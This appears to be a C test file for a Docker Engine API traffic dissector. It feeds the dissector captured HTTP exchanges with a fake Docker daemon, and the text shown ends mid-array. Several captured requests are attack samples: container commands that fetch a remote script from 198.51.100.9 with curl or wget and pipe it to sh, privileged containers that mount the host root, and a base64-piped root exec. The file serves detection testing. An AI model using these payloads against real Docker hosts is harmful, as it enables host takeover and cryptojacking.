/*
 * test_docker_api.c - the Docker Engine API dissector on real client bytes,
 * fed through a small copy of the engine (probe until YES, then the stream
 * tail: unconsumed bytes kept and offered again with the next ones, oldest
 * dropped past max_tail with a gap), plus synthetic edge cases.
 *
 * The cap_* segment arrays are TCP payloads captured with tcpdump on lo inside
 * a network namespace: the real docker CLI 28.2.2 (`docker -H
 * tcp://127.0.0.1:2375 version | pull | run | exec | stop | kill | rm`) and
 * curl 7.88.1 talking to tests/tools/fake_dockerd.py, one entry per segment
 * in capture order, extracted by a script; the commands are in the lead's
 * report (captures kept in /tmp/docker_pcaps when they were made).
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "dissector.h"
#include "cap_fact.h"
#include "emu_tcp.h"

extern const struct dissector docker_api_dissector;
#define D docker_api_dissector

struct seg {
    int stream, dir;
    size_t len;
    const char *data;
};

/* ---- captured facts ------------------------------------------------------- */

#define CAP_MAX 40
static struct cap_fact facts[CAP_MAX];
static int nfacts;

static void cap_reset(void)
{
    cap_clear(facts, CAP_MAX, &nfacts);
}

static void cap_emit(struct dctx *cx, const struct fact *f)
{
    (void)cx;
    if (strcmp(f->type, "docker_api") != 0 || nfacts >= CAP_MAX) {
        nfacts++;
        return;
    }
    cap_take(&facts[nfacts++], f);
}

/* An array field joined with ','. */
static const char *farr(const struct cap_fact *c, const char *name)
{
    static char buf[4][2048];
    static int slot;
    char *b = buf[slot++ & 3];
    size_t w = 0;

    b[0] = '\0';
    for (int i = 0; c && i < c->nfields; i++) {
        if (strcmp(c->f[i].name, name) != 0 || !(c->f[i].flags & FV_ARRAY))
            continue;
        w += (size_t)snprintf(b + w, 2048 - w, "%s%s", w ? "," : "", c->f[i].s);
        if (w >= 2048)
            break;
    }
    return b;
}

static const struct cap_fact *fact_op(const char *op, int nth)
{
    for (int i = 0; i < nfacts && i < CAP_MAX; i++) {
        const char *o = fstr(&facts[i], "operation");

        if (o && strcmp(o, op) == 0 && nth-- == 0)
            return &facts[i];
    }
    return NULL;
}

/* Does any string field of any fact contain s? */
static int any_field_has(const char *s)
{
    for (int i = 0; i < nfacts && i < CAP_MAX; i++)
        for (int k = 0; k < facts[i].nfields; k++)
            if (facts[i].f[k].type == FV_STR && strstr(facts[i].f[k].s, s))
                return 1;
    return 0;
}

/* ---- the engine in miniature (emu_tcp.h) --------------------------------- */

#define TAIL_CAP (65536 + 16384 + 70000)

static struct emu E;

static void emu_start(void)
{
    emu_init(&E, &D, 2375, cap_emit, TAIL_CAP);
    cap_reset();
}

static void emu_end(void)
{
    emu_finish(&E);
}

/* Offers n more bytes of direction dir, 1 ms after the previous ones. */
static void emu_bytes(int dir, const void *data, size_t n)
{
    E.fi.ts_us += 1000;
    emu_offer(&E, dir, data, n);
}

static void emu_str(int dir, const char *s)
{
    emu_bytes(dir, s, strlen(s));
}

static void emu_chunked(int dir, const void *data, size_t n, size_t chunk)
{
    const uint8_t *p = data;

    for (size_t off = 0; off < n; off += chunk)
        emu_bytes(dir, p + off, n - off < chunk ? n - off : chunk);
}

/* Feeds one TCP stream of a capture, segment by segment, and ends it. */
static void emu_capture(const struct seg *s, size_t nseg, int stream)
{
    emu_start();
    for (size_t i = 0; i < nseg; i++)
        if (s[i].stream == stream)
            emu_bytes(s[i].dir, s[i].data, s[i].len);
    emu_end();
}

#define CAPTURE(arr, stream) emu_capture(arr, sizeof(arr) / sizeof(arr[0]), stream)

/* The bytes of one direction of one stream, concatenated. */
static size_t side_bytes(const struct seg *s, size_t nseg, int stream, int dir, char *out,
                         size_t cap)
{
    size_t w = 0;

    for (size_t i = 0; i < nseg; i++)
        if (s[i].stream == stream && s[i].dir == dir && w + s[i].len <= cap) {
            memcpy(out + w, s[i].data, s[i].len);
            w += s[i].len;
        }
    return w;
}

#define SIDE(arr, stream, dir, out) \
    side_bytes(arr, sizeof(arr) / sizeof(arr[0]), stream, dir, out, sizeof(out))

/* ---- captured segments ------------------------------------------------------ */

/* version.pcap */
static const struct seg cap_version[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:41 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 118,
     "GET /v1.41/version HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 202,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:41 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 127\r\n"
     "\r\n"
     ""},
    {0, 1, 127,
     "{\"Version\": \"28.2.2\", \"ApiVersion\": \"1.41\", \"MinAPIVersion\": \"1.24\", \"Os\": \"linux\", \"Arch\": \"amd64\", \"KernelVersion\": \"6.1.0\"}\n"
     ""},
};

/* pull.pcap */
static const struct seg cap_pull[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:43 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 219,
     "POST /v1.41/images/create?fromImage=docker.io%2Fpocosow%2Fcentos&tag=7.6.1810 HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "X-Registry-Auth: e30=\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 202,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:43 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 247\r\n"
     "\r\n"
     ""},
    {0, 1, 247,
     "{\"status\": \"Pulling from docker.io%2Fpocosow%2Fcentos\", \"id\": \"latest\"}\r\n"
     "{\"status\": \"Digest: sha256:84054456423404ca8a81fcf6928871fca7aa695a50c555cee80b0e4d3f07ba0b\"}\r\n"
     "{\"status\": \"Status: Downloaded newer image for docker.io%2Fpocosow%2Fcentos\"}\r\n"
     ""},
};

/* run-priv.pcap */
static const struct seg cap_run_priv[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:45 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 196,
     "POST /v1.41/containers/create?name=graboid HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 1792\r\n"
     "Content-Type: application/json\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 0, 1792,
     "{\"Hostname\":\"\",\"Domainname\":\"\",\"User\":\"\",\"AttachStdin\":false,\"AttachStdout\":false,\"AttachStderr\":false,\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":null,\"Cmd\":[\"sh\",\"-c\",\"curl -s http://198.51.100.9/xmr.sh | sh\"],\"Image\":\"pocosow/centos\",\"Volumes\":{},\"WorkingDir\":\"\",\"Entrypoint\":null,\"OnBuild\":null,\"Labels\":{},\"HostConfig\":{\"Binds\":[\"/:/host\"],\"ContainerIDFile\":\"\",\"LogConfig\":{\"Type\":\"\",\"Config\":{}},\"NetworkMode\":\"default\",\"PortBindings\":{},\"RestartPolicy\":{\"Name\":\"no\",\"MaximumRetryCount\":0},\"AutoRemove\":false,\"VolumeDriver\":\"\",\"VolumesFrom\":null,\"ConsoleSize\":[0,0],\"CapAdd\":null,\"CapDrop\":null,\"CgroupnsMode\":\"\",\"Dns\":[],\"DnsOptions\":[],\"DnsSearch\":[],\"ExtraHosts\":null,\"GroupAdd\":null,\"IpcMode\":\"\",\"Cgroup\":\"\",\"Links\":null,\"OomScoreAdj\":0,\"PidMode\":\"\",\"Privileged\":true,\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,\"SecurityOpt\":null,\"UTSMode\":\"\",\"UsernsMode\":\"\",\"ShmSize\":0,\"Isolation\":\"\",\"CpuShares\":0,\"Memory\":0,\"NanoCpus\":0,\"CgroupParent\":\"\",\"BlkioWeight\":0,\"BlkioWeightDevice\":[],\"BlkioDeviceReadBps\":[],\"BlkioDeviceWriteBps\":[],\"BlkioDeviceReadIOps\":[],\"BlkioDeviceWriteIOps\":[],\"CpuPeriod\":0,\"CpuQuota\":0,\"CpuRealtimePeriod\":0,\"CpuRealtimeRuntime\":0,\"CpusetCpus\":\"\",\"CpusetMems\":\"\",\"Devices\":[],\"DeviceCgroupRules\":null,\"DeviceRequests\":null,\"MemoryReservation\":0,\"MemorySwap\":0,\"MemorySwappiness\":-1,\"OomKillDisable\":false,\"PidsLimit\":0,\"Ulimits\":[],\"CpuCount\":0,\"CpuPercent\":0,\"IOMaximumIOps\":0,\"IOMaximumBandwidth\":0,\"MaskedPaths\":null,\"ReadonlyPaths\":null},\"NetworkingConfig\":{\"EndpointsConfig\":{\"default\":{\"IPAMConfig\":null,\"Links\":null,\"Aliases\":null,\"MacAddress\":\"\",\"DriverOpts\":null,\"GwPriority\":0,\"NetworkID\":\"\",\"EndpointID\":\"\",\"Gateway\":\"\",\"IPAddress\":\"\",\"IPPrefixLen\":0,\"IPv6Gateway\":\"\",\"GlobalIPv6Address\":\"\",\"GlobalIPv6PrefixLen\":0,\"DNSNames\":null}}}}\n"
     ""},
    {0, 1, 206,
     "HTTP/1.1 201 Created\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:45 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 91\r\n"
     "\r\n"
     ""},
    {0, 1, 91,
     "{\"Id\": \"dad8a73c3ffb39cef71cd4ff3fa1e53e7e0f442b47d5f6af8c94a6236ae07337\", \"Warnings\": []}\n"
     ""},
    {0, 0, 231,
     "POST /v1.41/containers/dad8a73c3ffb39cef71cd4ff3fa1e53e7e0f442b47d5f6af8c94a6236ae07337/wait?condition=next-exit HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 201,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:45 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 18\r\n"
     "\r\n"
     ""},
    {1, 0, 212,
     "POST /v1.41/containers/dad8a73c3ffb39cef71cd4ff3fa1e53e7e0f442b47d5f6af8c94a6236ae07337/start HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {1, 1, 157,
     "HTTP/1.1 204 No Content\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:45 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "\r\n"
     ""},
    {0, 1, 18,
     "{\"StatusCode\": 0}\n"
     ""},
};

/* run-mount.pcap */
static const struct seg cap_run_mount[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:47 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 183,
     "POST /v1.41/containers/create HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 1740\r\n"
     "Content-Type: application/json\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 0, 1740,
     "{\"Hostname\":\"\",\"Domainname\":\"\",\"User\":\"\",\"AttachStdin\":false,\"AttachStdout\":false,\"AttachStderr\":false,\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":[\"AWS_SECRET_ACCESS_KEY=hunter2\",\"FOO=bar\"],\"Cmd\":[\"-c\",\"wget -q -O - http://198.51.100.9/d.sh | sh\"],\"Image\":\"alpine\",\"Volumes\":{},\"WorkingDir\":\"\",\"Entrypoint\":[\"/bin/sh\"],\"OnBuild\":null,\"Labels\":{},\"HostConfig\":{\"Binds\":null,\"ContainerIDFile\":\"\",\"LogConfig\":{\"Type\":\"\",\"Config\":{}},\"NetworkMode\":\"host\",\"PortBindings\":{},\"RestartPolicy\":{\"Name\":\"no\",\"MaximumRetryCount\":0},\"AutoRemove\":false,\"VolumeDriver\":\"\",\"VolumesFrom\":null,\"ConsoleSize\":[0,0],\"CapAdd\":[\"CAP_SYS_ADMIN\"],\"CapDrop\":null,\"CgroupnsMode\":\"\",\"Dns\":[],\"DnsOptions\":[],\"DnsSearch\":[],\"ExtraHosts\":null,\"GroupAdd\":null,\"IpcMode\":\"host\",\"Cgroup\":\"\",\"Links\":null,\"OomScoreAdj\":0,\"PidMode\":\"host\",\"Privileged\":false,\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,\"SecurityOpt\":[\"seccomp=unconfined\"],\"UTSMode\":\"\",\"UsernsMode\":\"\",\"ShmSize\":0,\"Isolation\":\"\",\"CpuShares\":0,\"Memory\":0,\"NanoCpus\":0,\"CgroupParent\":\"\",\"BlkioWeight\":0,\"BlkioWeightDevice\":[],\"BlkioDeviceReadBps\":[],\"BlkioDeviceWriteBps\":[],\"BlkioDeviceReadIOps\":[],\"BlkioDeviceWriteIOps\":[],\"CpuPeriod\":0,\"CpuQuota\":0,\"CpuRealtimePeriod\":0,\"CpuRealtimeRuntime\":0,\"CpusetCpus\":\"\",\"CpusetMems\":\"\",\"Devices\":[{\"PathOnHost\":\"/dev/mem\",\"PathInContainer\":\"/dev/mem\",\"CgroupPermissions\":\"rwm\"}],\"DeviceCgroupRules\":null,\"DeviceRequests\":null,\"MemoryReservation\":0,\"MemorySwap\":0,\"MemorySwappiness\":-1,\"OomKillDisable\":false,\"PidsLimit\":0,\"Ulimits\":[],\"CpuCount\":0,\"CpuPercent\":0,\"IOMaximumIOps\":0,\"IOMaximumBandwidth\":0,\"Mounts\":[{\"Type\":\"bind\",\"Source\":\"/etc\",\"Target\":\"/hostetc\"}],\"MaskedPaths\":null,\"ReadonlyPaths\":null},\"NetworkingConfig\":{\"EndpointsConfig\":{}}}\n"
     ""},
    {0, 1, 206,
     "HTTP/1.1 201 Created\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:47 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 91\r\n"
     "\r\n"
     ""},
    {0, 1, 91,
     "{\"Id\": \"ff158dd86682aad8b640db697c7faeed4e41ca6f43e107c7cab201233e535756\", \"Warnings\": []}\n"
     ""},
    {0, 0, 231,
     "POST /v1.41/containers/ff158dd86682aad8b640db697c7faeed4e41ca6f43e107c7cab201233e535756/wait?condition=next-exit HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 201,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:47 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 18\r\n"
     "\r\n"
     ""},
    {1, 0, 212,
     "POST /v1.41/containers/ff158dd86682aad8b640db697c7faeed4e41ca6f43e107c7cab201233e535756/start HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {1, 1, 157,
     "HTTP/1.1 204 No Content\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:47 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "\r\n"
     ""},
    {0, 1, 18,
     "{\"StatusCode\": 0}\n"
     ""},
};

/* exec.pcap */
static const struct seg cap_exec[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:49 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 134,
     "GET /v1.41/containers/graboid/json HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 202,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:49 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 143\r\n"
     "\r\n"
     ""},
    {0, 1, 143,
     "{\"Id\": \"dad8a73c3ffb39cef71cd4ff3fa1e53e7e0f442b47d5f6af8c94a6236ae07337\", \"Name\": \"/x\", \"State\": {\"Running\": true}, \"Config\": {\"Tty\": false}}\n"
     ""},
    {0, 0, 188,
     "POST /v1.41/containers/graboid/exec HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 211\r\n"
     "Content-Type: application/json\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 0, 211,
     "{\"User\":\"root\",\"Privileged\":true,\"Tty\":false,\"AttachStdin\":false,\"AttachStderr\":true,\"AttachStdout\":true,\"Detach\":false,\"DetachKeys\":\"\",\"Env\":null,\"WorkingDir\":\"\",\"Cmd\":[\"sh\",\"-c\",\"echo aWQ= | base64 -d | sh\"]}\n"
     ""},
    {0, 1, 206,
     "HTTP/1.1 201 Created\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:49 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 75\r\n"
     "\r\n"
     ""},
    {0, 1, 75,
     "{\"Id\": \"091d5b918d8b04f500b38c772bb75be24371e92bc9534b0d843bdcbf0dca772a\"}\n"
     ""},
    {1, 0, 251,
     "POST /v1.41/exec/091d5b918d8b04f500b38c772bb75be24371e92bc9534b0d843bdcbf0dca772a/start HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 29\r\n"
     "Connection: Upgrade\r\n"
     "Content-Type: application/json\r\n"
     "Upgrade: tcp\r\n"
     "\r\n"
     ""},
    {1, 0, 29,
     "{\"Detach\":false,\"Tty\":false}\n"
     ""},
    {1, 1, 188,
     "HTTP/1.1 101 Switching Protocols\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:49 GMT\r\n"
     "Content-Type: application/vnd.docker.raw-stream\r\n"
     "Connection: Upgrade\r\n"
     "Upgrade: tcp\r\n"
     "\r\n"
     ""},
    {1, 1, 32,
     "\001\000\000\000\000\000\000\030uid=0(root) gid=0(root)\n"
     ""},
    {0, 0, 185,
     "GET /v1.41/exec/091d5b918d8b04f500b38c772bb75be24371e92bc9534b0d843bdcbf0dca772a/json HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 202,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:49 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 108\r\n"
     "\r\n"
     ""},
    {0, 1, 108,
     "{\"ID\": \"091d5b918d8b04f500b38c772bb75be24371e92bc9534b0d843bdcbf0dca772a\", \"Running\": false, \"ExitCode\": 0}\n"
     ""},
};

/* stop.pcap */
static const struct seg cap_stop[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:51 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 154,
     "POST /v1.41/containers/graboid/stop HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 157,
     "HTTP/1.1 204 No Content\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:51 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "\r\n"
     ""},
};

/* kill.pcap */
static const struct seg cap_kill[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:54 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 154,
     "POST /v1.41/containers/graboid/kill HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Content-Length: 0\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 157,
     "HTTP/1.1 204 No Content\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:54 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "\r\n"
     ""},
};

/* rm.pcap */
static const struct seg cap_rm[] = {
    {0, 0, 88,
     "HEAD /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:56 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 0, 140,
     "DELETE /v1.41/containers/graboid?force=1 HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: Docker-Client/28.2.2 (linux)\r\n"
     "Accept-Encoding: gzip\r\n"
     "\r\n"
     ""},
    {0, 1, 157,
     "HTTP/1.1 204 No Content\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:56 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "\r\n"
     ""},
};

/* curl-chunked.pcap */
static const struct seg cap_curl_chunked[] = {
    {0, 0, 314,
     "POST /v1.24/containers/create?name=x1 HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: curl/7.88.1\r\n"
     "Accept: */*\r\n"
     "Transfer-Encoding: chunked\r\n"
     "Content-Type: application/json\r\n"
     "\r\n"
     "85\r\n"
     "{\"Image\":\"alpine\",\"Cmd\":[\"/bin/sh\",\"-c\",\"curl -s http://198.51.100.9/x.sh|bash\"],\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/mnt\"]}}\r\n"
     "0\r\n"
     "\r\n"
     ""},
    {0, 1, 206,
     "HTTP/1.1 201 Created\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:48:58 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 91\r\n"
     "\r\n"
     ""},
    {0, 1, 91,
     "{\"Id\": \"ec31682fde561917952ff78a7a8adeffd0febc372dd26871916c46c630381b45\", \"Warnings\": []}\n"
     ""},
};

/* curl-keepalive.pcap */
static const struct seg cap_curl_keepalive[] = {
    {0, 0, 83,
     "GET /_ping HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: curl/7.88.1\r\n"
     "Accept: */*\r\n"
     "\r\n"
     ""},
    {0, 1, 209,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:49:00 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: text/plain; charset=utf-8\r\n"
     "Content-Length: 2\r\n"
     "\r\n"
     ""},
    {0, 1, 2, "OK"},
    {0, 0, 91,
     "GET /v1.41/version HTTP/1.1\r\n"
     "Host: 127.0.0.1:2375\r\n"
     "User-Agent: curl/7.88.1\r\n"
     "Accept: */*\r\n"
     "\r\n"
     ""},
    {0, 1, 202,
     "HTTP/1.1 200 OK\r\n"
     "Server: Docker/28.2.2 (linux)\r\n"
     "Date: Sun, 22 Nov 2026 01:49:00 GMT\r\n"
     "Api-Version: 1.41\r\n"
     "Docker-Experimental: false\r\n"
     "Ostype: linux\r\n"
     "Content-Type: application/json\r\n"
     "Content-Length: 127\r\n"
     "\r\n"
     ""},
    {0, 1, 127,
     "{\"Version\": \"28.2.2\", \"ApiVersion\": \"1.41\", \"MinAPIVersion\": \"1.24\", \"Os\": \"linux\", \"Arch\": \"amd64\", \"KernelVersion\": \"6.1.0\"}\n"
     ""},
    {0, 0, 88,
